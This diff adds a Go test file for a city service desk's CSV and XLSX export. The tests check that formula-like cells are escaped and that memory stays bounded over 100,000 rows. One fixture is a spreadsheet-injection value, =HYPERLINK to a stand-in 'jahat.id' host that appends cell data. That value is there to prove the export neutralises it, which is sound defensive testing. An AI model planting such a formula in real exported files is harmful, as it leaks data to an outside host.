@@ -1,0 +1,103 @@
+package desk
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"io"
+	"net/http/httptest"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+)
+
+var wib = time.FixedZone("WIB", 7*3600)
+
+// TestASheetIsReadAsItWasWritten: text that a spreadsheet would run stays text, and moments are those of the city.
+func TestASheetIsReadAsItWasWritten(t *testing.T) {
+	t.Parallel()
+	at := time.Date(2026, 11, 24, 23, 30, 0, 0, wib)
+	rows := [][]any{{"Nomor", "Pemohon", "Masuk"}, {"BTM-26-7K3QX-4", `=HYPERLINK("http://jahat.id?"&A1)`, at}, {"+62812", "Siti, \"Rahma\"\nBaris", ""}, {"-1", "@SUM(A1)", at}}
+	rec := httptest.NewRecorder()
+	s := newCSV(rec)
+	for _, r := range rows {
+		if err := s.row(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := s.close(); err != nil {
+		t.Fatal(err)
+	}
+	text, ok := strings.CutPrefix(rec.Body.String(), "\ufeff")
+	got, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil || !ok || len(got) != 4 {
+		t.Fatalf("%q, %v", text, err)
+	}
+	for i, want := range []string{"Nomor|Pemohon|Masuk", `BTM-26-7K3QX-4|'=HYPERLINK("http://jahat.id?"&A1)|2026-11-24 23:30`, "'+62812|Siti, \"Rahma\"\nBaris|", "'-1|'@SUM(A1)|2026-11-24 23:30"} {
+		if strings.Join(got[i], "|") != want {
+			t.Errorf("row %d: %q, want %q", i, strings.Join(got[i], "|"), want)
+		}
+	}
+	rec = httptest.NewRecorder()
+	s = newXLSX(rec)
+	for _, r := range rows {
+		if err := s.row(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := s.close(); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(rec.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cells, err := f.GetRows(sheetName)
+	if err != nil || len(cells) != 4 || cells[1][1] != `=HYPERLINK("http://jahat.id?"&A1)` || cells[1][2] != "2026-11-24 23:30" {
+		t.Errorf("%q, %v", cells, err)
+	}
+	if formula, err := f.GetCellFormula(sheetName, "B2"); err != nil || formula != "" {
+		t.Errorf("a formula: %q, %v", formula, err)
+	}
+}
+
+// TestAHundredThousandRowsAreNotHeld writes as many rows as a city's longest list has, and looks at the memory meanwhile.
+func TestAHundredThousandRowsAreNotHeld(t *testing.T) {
+	const rows, most = 100_000, 96 << 20
+	at := time.Date(2026, 11, 24, 10, 0, 0, 0, wib)
+	for name, s := range map[string]sheet{"csv": &csvSheet{w: csv.NewWriter(io.Discard), raw: io.Discard}, "xlsx": xlsxTo(io.Discard)} {
+		var before, now runtime.MemStats
+		runtime.GC()
+		runtime.ReadMemStats(&before)
+		for i := range rows {
+			err := s.row([]any{"BTM-26-7K3QX-4", "Penerbitan KTP elektronik karena hilang", "Dinas Kependudukan dan Pencatatan Sipil", "Siti Rahma", "Sedang diperiksa",
+				"Budi", "Situs kota", at, at, "Tidak", "", "", ""})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if i%20_000 == 0 {
+				runtime.GC()
+				if runtime.ReadMemStats(&now); now.HeapAlloc > before.HeapAlloc+most {
+					t.Fatalf("%s holds %d MB after %d rows", name, (now.HeapAlloc-before.HeapAlloc)>>20, i)
+				}
+			}
+		}
+		if err := s.close(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var b bytes.Buffer
+	s := xlsxTo(&b)
+	if err := s.row([]any{"x"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.close(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len())); err != nil {
+		t.Error(err)
+	}
+}
